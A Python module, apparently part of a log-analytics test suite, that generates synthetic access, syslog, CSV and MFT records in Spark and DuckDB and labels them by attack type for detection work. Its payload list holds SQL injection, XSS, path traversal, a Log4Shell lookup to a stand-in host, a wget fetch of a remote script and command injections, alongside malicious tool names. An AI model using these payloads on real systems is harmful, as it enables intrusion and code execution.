"""Log lines, file-system records and labelled lines derived from the driver's tables, in both engines.

The tables hold no logs, so these views are projections of `events` and `part`: every row becomes
one line or record whose parts follow from its columns. Each view is one SQL text for Spark and one
for DuckDB, from one template.
"""

from __future__ import annotations

import uuid
from functools import partial

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from tracelake.rules import corpus
from tracelake.rx import quoted

#: What a request asks for, by event number; the rest asks for ordinary pages.
_PAYLOADS = (
    "/admin/panel", "/wp-admin/setup.php", "/.env", "/login ", "/item?id=7 union select 1,2", "/search?q='or'1'='1", "/q?x=sleep(9)",
    "/p?c=<script>alert(1)</script>", "/p?next=javascript:go", "/file?f=../../etc/passwd", "/read?f=%2e%2e%2fboot", "/x?u=${jndi:ldap://evil.example.com/a}",
    "/run?c=;wget http://203.0.113.9/a.sh", "/run?c=$(id)", "/auth/signin?m=failed password", "/doc?n=mimikatz.exe", "/ps?c=powershell -enc SQBFAFgA",
    "/up/c99.php?cmd=id", "/task?c=schtasks /create", "/sudo?c=sudo su", "/ev?c=wevtutil cl System", "/adm?c=psexec.exe", "/gate.php?beacon=1",
    "/send?c=curl -d post data.zip upload", "/note?f=readme_decrypt.txt ransom", "/vendor/phpunit/src/eval-stdin.php", "/cgi?c=() { :; } shellshock", "/cve?q=CVE-2021-44228",
)
_AGENTS = ("Mozilla/5.0 (X11; Linux x86_64)", "sqlmap/1.7", "curl/8.4", "Nikto/2.5", "Googlebot/2.1", "Mozilla/5.0 (Windows NT 10.0)")


def _case(key: str, values: tuple[str, ...], other: str) -> str:
    return f"CASE {key} " + " ".join(f"WHEN {k} THEN '" + v.replace("'", "''") + "'" for k, v in enumerate(values)) + f" ELSE {other} END"


def _spark_case(key: str, values: tuple[str, ...], other: str) -> str:
    # A dollar sign and a brace would be taken for a variable.
    return f"CASE {key} " + " ".join(f"WHEN {k} THEN '" + v.replace("\\", "\\\\").replace("'", "\\'").replace("${", "$' || '{") + "'" for k, v in enumerate(values)) + f" ELSE {other} END"


def _text(engine: str, value: str) -> str:
    return value.replace("\\", "\\\\") if engine == "spark" else value


def access_log(engine: str) -> str:
    """SQL of (line_number, line): one combined-format line an event."""
    case = _spark_case if engine == "spark" else _case
    time = "date_format(ts, 'dd/MMM/yyyy:HH:mm:ss')" if engine == "spark" else "strftime(ts, '%d/%b/%Y:%H:%M:%S')"
    address = "CASE WHEN user_id % 5 = 0 THEN '10.0.' ELSE '203.0.' END || cast(user_id % 113 AS STRING) || '.' || cast(user_id % 199 + 1 AS STRING)"
    status = "CASE WHEN user_id % 11 = 3 AND event_id % 3 < 2 THEN '401' WHEN user_id % 13 = 5 AND event_id % 5 < 3 THEN '404' WHEN event_type = 'error' THEN '500' WHEN event_type = 'signup' AND event_id % 4 = 0 THEN '302' ELSE '200' END"
    url = case("event_id % 211", _PAYLOADS, "'/' || event_type || '/' || cast(event_id % 997 AS STRING) || '?u=' || cast(user_id AS STRING)")
    user = "CASE WHEN user_id % 4 = 0 THEN 'user' || cast(user_id AS STRING) ELSE '-' END"
    sent = "CASE WHEN event_id % 9 = 0 THEN '-' ELSE cast(event_id % 5000 + 100 AS STRING) END"
    agent = case("CASE WHEN user_id % 7 = 1 THEN event_id % 6 ELSE 0 END", _AGENTS, "'-'")
    return (
        f"SELECT event_id + 1 AS line_number, {address} || ' - ' || {user} || ' [' || {time} || ' +0000] \"' || CASE WHEN event_type = 'signup' THEN 'POST' ELSE 'GET' END || ' ' || {url} "
        f"|| ' HTTP/1.1\" ' || {status} || ' ' || {sent} || ' \"-\" \"' || {agent} || '\"' AS line FROM events WHERE event_id IS NOT NULL"
    )


def generic_log(engine: str) -> str:
    """SQL of (line_number, line): events as syslog, ISO, epoch and undated lines."""
    fmt = {"spark": ("date_format(ts, 'MMM dd HH:mm:ss')", "date_format(ts, 'yyyy-MM-dd HH:mm:ss')", "cast(unix_timestamp(ts) AS STRING)"), "duckdb": ("strftime(ts, '%b %d %H:%M:%S')", "strftime(ts, '%Y-%m-%d %H:%M:%S')", "cast(cast(floor(epoch(ts)) AS BIGINT) AS STRING)")}[engine]
    case = _spark_case if engine == "spark" else _case
    payload = case("event_id % 97", _PAYLOADS, "'GET /' || event_type || ' HTTP/1.1\" 200'")
    where = "'host' || cast(user_id % 9 AS STRING) || ' app[' || cast(event_id % 4000 AS STRING) || ']: from 198.51.100.' || cast(user_id % 250 AS STRING) || ' ' || "
    return (
        f"SELECT event_id + 1 AS line_number, CASE event_id % 4 WHEN 0 THEN {fmt[0]} || ' ' WHEN 1 THEN {fmt[1]} || ' ' WHEN 2 THEN 't=' || {fmt[2]} || ' ' ELSE '' END || {where}{payload} AS line "
        "FROM events WHERE event_id IS NOT NULL"
    )


def csv_log(engine: str) -> str:
    """SQL of (line_number, line): events as lines of an audit CSV, some quoted, some with a cell too many."""
    time = "date_format(ts, 'yyyy-MM-dd HH:mm:ss')" if engine == "spark" else "strftime(ts, '%Y-%m-%d %H:%M:%S')"
    return (
        f"SELECT event_id + 2 AS line_number, {time} || ',192.0.2.' || cast(user_id % 250 AS STRING) || ', user' || cast(user_id AS STRING) || ' ,' "
        "|| CASE WHEN event_id % 3 = 0 THEN '\"said \"\"' || event_type || '\"\", twice\"' ELSE event_type END || ',' || CASE WHEN event_id % 4 = 0 THEN '403' ELSE 'ok' END "
        "|| CASE WHEN event_id % 5 = 0 THEN ',extra' ELSE '' END AS line FROM events WHERE event_id IS NOT NULL"
    )


#: What kind of attack each of `_PAYLOADS` is, in their order.
_KINDS = (
    "recon", "recon", "recon", "bruteforce", "sqli", "sqli", "sqli", "xss", "xss", "traversal", "traversal", "log4shell", "rce", "rce", "bruteforce", "creddump", "rce", "webshell", "persistence", "privesc",
    "evasion", "lateral", "c2", "exfil", "ransomware", "rce", "rce", "log4shell",
)


def labelled_log(engine: str) -> str:
    """SQL of (doc, text, label): the lines of the access log, each with the kind of what it asks for."""
    case = _spark_case if engine == "spark" else _case
    return f"SELECT line_number AS doc, line AS text, {case('(line_number - 1) % 211', _KINDS, quoted('benign'))} AS label FROM ({access_log(engine)})"


CSV_HEADER = "Timestamp,Source_IP,User,Event,Status"

#: Paths of records, by part number: one for each rule and each exclusion at least.
_PATHS = (
    "\\Windows\\Tasks\\update.exe", "\\Users\\kim\\AppData\\Local\\Temp\\sliver_client.exe", "\\Users\\lee\\Downloads\\invoice.pdf.exe", "\\Users\\kim\\notes.txt:secret.bin",
    "\\Users\\kim\\notes.txt:Zone.Identifier", "\\ProgramData\\svchost.exe", "\\Windows\\Temp\\svchost.exe", "\\dropper.exe", "\\Tools\\old\\helper.exe", "\\Users\\Public\\run.ps1",
    "\\Windows\\System32\\kernel32.dll", "\\Program Files\\App\\app.exe", ".\\relative\\thing.exe", "\\cache\\lib.dll\\frag.exe", "\\Temp\\mimikatz.exe", "\\Users\\lee\\Desktop\\beacon.dll",
    "\\$Recycle.Bin\\S-1\\nc.exe", "\\Windows\\System32\\NlsData0007.dll", "NoFNRecord", "", "\\Intel\\tool.bat", "\\PerfLogs\\collect.vbs", "\\Users\\lee\\Documents\\report.docx", "\\$MFT",
    "\\Windows\\Fonts\\font.exe", "\\Recovery\\chisel.exe", "\\data\\archive\\photo.jpg.scr", "\\Users\\lee\\folder\\",
)
MFT_HEADER = ("Record Number", "Active", "Record type", "Filename #1", "Std Info Creation date", "Std Info Modification date", "FN Info Creation date")


def mft_table(engine: str) -> str:
    """SQL of (row_number, and the cells of MFT_HEADER as text): parts as file-system records."""
    case = _spark_case if engine == "spark" else _case
    stamp = "timestamp '2024-01-01 00:00:00' + make_interval(0, 0, 0, cast({d} AS INT), cast({h} AS INT))" if engine == "spark" else "timestamp '2024-01-01 00:00:00' + to_days(cast({d} AS INT)) + to_hours(cast({h} AS INT))"
    say = "date_format({x}, 'yyyy-MM-dd HH:mm:ss')" if engine == "spark" else "strftime({x}, '%Y-%m-%d %H:%M:%S')"
    at = lambda d, h: say.format(x=stamp.format(d=d, h=h))
    path = case("p_partkey % 61", _PATHS, "'" + _text(engine, "\\data\\set") + "' || cast(p_size AS STRING) || '" + _text(engine, "\\file") + "' || cast(p_partkey AS STRING) || CASE WHEN p_partkey % 17 = 0 THEN '.exe' ELSE '.txt' END")
    return (
        "SELECT p_partkey AS row_number, CASE WHEN p_partkey % 50 = 1 THEN '0' ELSE cast(p_partkey AS STRING) END AS c0, CASE WHEN p_size % 3 = 0 THEN 'Inactive' ELSE 'Active' END AS c1, "
        f"CASE WHEN p_partkey % 61 = 27 OR p_partkey % 10 = 9 THEN 'Folder' ELSE 'File' END AS c2, {path} AS c3, "
        f"CASE WHEN p_partkey % 8 = 0 THEN 'NoSIRecord' WHEN p_partkey % 8 = 1 THEN '45292.5' ELSE {at('p_size', 'p_partkey % 24')} END AS c4, "
        f"{at('p_size - p_partkey % 2', 'p_partkey % 24')} AS c5, CASE WHEN p_partkey % 9 = 0 THEN '' ELSE {at('p_size + p_partkey % 4', 'p_partkey % 24')} END AS c6 FROM part WHERE p_partkey IS NOT NULL"
    )


def labelled_lines() -> str:
    """DuckDB text of (doc, text, label): the corpus as a list of values."""
    rows = ", ".join(f"({k}, {quoted(t)}, '{label}')" for k, t, label in corpus.documents())
    return f"SELECT * FROM (VALUES {rows}) AS corpus(doc, text, label)"


def labelled(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The corpus: (doc, text, label)."""
    return spark.createDataFrame(corpus.documents(), "doc int, text string, label string")


#: Rows of a table that one task works on at most.
ROWS = 1 << 16


def spread(spark: SparkSession, sf_dir: str, table: str, *columns: str) -> DataFrame:
    """A driver table, dealt to all cores: each is one file, which Spark reads in one task, or in one for each of its row groups.

    A task gets up to ROWS rows, so a larger table has more tasks and not longer ones. The rows of each split
    are counted first, of which Spark reads the footers only; a table whose splits are small and
    as many as there are cores isn't moved.

    What is worked out of the rows stays behind the dealing: Spark would test a filter, with all that it is made of,
    in the few tasks that read the file, and work it out once more after them. It moves none past a count of rows.
    """
    df = spark.read.parquet(f"{sf_dir}/{table}.parquet")
    sizes = df.groupBy(F.spark_partition_id()).agg(F.count("*").alias("n"))  # a row for each split
    splits, most, n = sizes.agg(F.count("*"), F.coalesce(F.max("n"), F.lit(0)), F.coalesce(F.sum("n"), F.lit(0))).first()
    df = df.select(*columns) if columns else df
    cores = spark.sparkContext.defaultParallelism
    return df if splits >= cores and most <= ROWS else df.repartition(max(cores, -(-n // ROWS))).observe(f"{table}-{uuid.uuid4().hex}", F.count(F.lit(1)).alias("rows"))


def view(sql, table: str, spark: SparkSession, sf_dir: str) -> DataFrame:
    """A view over the driver's table in Spark."""
    name = f"tracelake_{table}"
    spread(spark, sf_dir, table).createOrReplaceTempView(name)
    return spark.sql(sql("spark").replace(f"FROM {table} ", f"FROM {name} "))


access_lines = partial(view, access_log, "events")
labelled_events = partial(view, labelled_log, "events")
generic_lines = partial(view, generic_log, "events")
csv_lines = partial(view, csv_log, "events")
mft_rows = partial(view, mft_table, "part")
